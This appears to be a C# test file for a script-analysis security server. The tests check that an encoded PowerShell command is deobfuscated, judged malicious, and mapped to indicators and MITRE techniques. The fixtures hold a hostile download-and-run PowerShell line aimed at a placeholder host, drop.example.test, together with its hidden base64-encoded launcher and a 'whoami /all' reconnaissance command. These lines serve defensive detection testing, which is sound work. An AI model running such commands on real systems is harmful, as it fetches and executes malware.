using System.Net;
using System.Text;
using System.Text.Json;

namespace Redoubt.Server.Tests.Api;

/// <summary>Scripts and files through the API: what is sent is analyzed, bounded, and kept nowhere.</summary>
public sealed class AnalysisTests
{
    // powershell: Invoke-WebRequest of http://drop.example.test/a.exe, saved and started
    private const string Download = "Invoke-WebRequest -Uri 'http://drop.example.test/a.exe' -OutFile 'C:\\Users\\Public\\a.exe'; Start-Process 'C:\\Users\\Public\\a.exe'";

    private static string Encoded => "powershell -nop -w hidden -enc " + Convert.ToBase64String(Encoding.Unicode.GetBytes(Download));

    [Fact]
    public async Task An_encoded_command_is_cleared_cited_and_judged()
    {
        await using var server = await TestServer.StartAsync();
        var report = await server.SendAsync(HttpMethod.Post, "/api/scripts/analyze", new { text = Encoded });
        report.GetProperty("language").GetString().ShouldBe("commandLine");
        report.GetProperty("deobfuscated").GetString()!.ShouldContain("Invoke-WebRequest -Uri 'http://drop.example.test/a.exe'");
        report.GetProperty("verdict").GetProperty("label").GetString().ShouldBe("malicious");
        report.GetProperty("layers").EnumerateArray().Count().ShouldBeGreaterThan(1);
        report.GetProperty("indicators").EnumerateArray().ShouldContain(one => one.GetProperty("kind").GetString() == "url" && one.GetProperty("value").GetString() == "http://drop.example.test/a.exe");
        report.GetProperty("techniques").EnumerateArray().ShouldContain(one => one.GetProperty("v18").GetString() == "T1105" && one.GetProperty("name").GetString() == "Ingress Tool Transfer");
        foreach (var step in report.GetProperty("steps").EnumerateArray())
            step.GetProperty("where").GetArrayLength().ShouldBeGreaterThan(0, step.GetProperty("text").GetString());
    }

    [Theory]
    [InlineData("""{"text":"  "}""", "empty")]
    [InlineData("""{"text":"x","language":"cobol"}""", "language")]
    [InlineData("""{"txt":"x"}""", "txt")]
    [InlineData("[]", "body")]
    public async Task What_is_no_script_is_refused(string body, string says)
    {
        await using var server = await TestServer.StartAsync();
        using var answer = await server.Http.PostAsync("/api/scripts/analyze", new StringContent(body, Encoding.UTF8, "application/json"));
        answer.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await answer.Content.ReadAsStringAsync()).ShouldContain(says);
    }

    [Fact]
    public async Task A_file_is_analyzed_from_its_bytes()
    {
        await using var server = await TestServer.StartAsync();
        using var answer = await server.Http.PostAsync("/api/files/analyze?name=start.ps1", new ByteArrayContent(Encoding.UTF8.GetBytes(Download)));
        var report = JsonSerializer.Deserialize<JsonElement>(await answer.Content.ReadAsStringAsync());
        report.GetProperty("format").GetString().ShouldBe("script");
        report.GetProperty("sha256").GetString()!.Length.ShouldBe(64);
        report.GetProperty("scripts")[0].GetProperty("report").GetProperty("language").GetString().ShouldBe("powerShell");
    }

    [Fact]
    public async Task An_empty_file_is_refused()
    {
        await using var server = await TestServer.StartAsync();
        using var answer = await server.Http.PostAsync("/api/files/analyze", new ByteArrayContent([]));
        answer.StatusCode.ShouldBe(HttpStatusCode.BadRequest);
        (await answer.Content.ReadAsStringAsync()).ShouldContain("empty");
    }

    [Fact]
    public async Task The_scripts_of_an_incident_are_listed_worst_first()
    {
        await using var server = await TestServer.StartAsync();
        await server.IngestAsync(JsonSerializer.Serialize(new
        {
            alertId = "a1", title = "Suspicious PowerShell", severity = "high", detector = "Test", firstActivity = "2026-03-12T08:00:00Z", lastActivity = "2026-03-12T08:00:00Z",
            entities = new object[]
            {
                new { type = "device", hostName = "ws-07" },
                new { type = "process", fileName = "powershell.exe", processId = 4711, commandLine = Encoded },
                new { type = "process", fileName = "whoami.exe", processId = 4712, commandLine = "whoami /all" },
            },
        }) + "\n", "native");
        var incident = (await server.GetAsync("/api/incidents")).GetProperty("items")[0].GetProperty("id").GetInt64();

        var scripts = (await server.GetAsync($"/api/incidents/{incident}/scripts")).GetProperty("items").EnumerateArray().ToList();
        scripts.Count.ShouldBe(2);
        scripts[0].GetProperty("text").GetString().ShouldBe(Encoded);
        scripts[0].GetProperty("device").GetString().ShouldBe("ws-07");
        scripts[0].GetProperty("alertIds")[0].GetString().ShouldBe("a1");

        var summary = await server.GetAsync($"/api/incidents/{incident}/summary");
        var section = summary.GetProperty("sections").EnumerateArray().Single(one => one.GetProperty("id").GetString() == "scripts");
        section.GetRawText().ShouldContain("judged malicious");
        summary.GetProperty("markdown").GetString()!.ShouldContain("hxxp://drop.example[.]test/a.exe"); // The address behind the base64 is an indicator of the incident.

        using var missing = await server.Http.GetAsync("/api/incidents/999/scripts");
        missing.StatusCode.ShouldBe(HttpStatusCode.NotFound);
    }
}
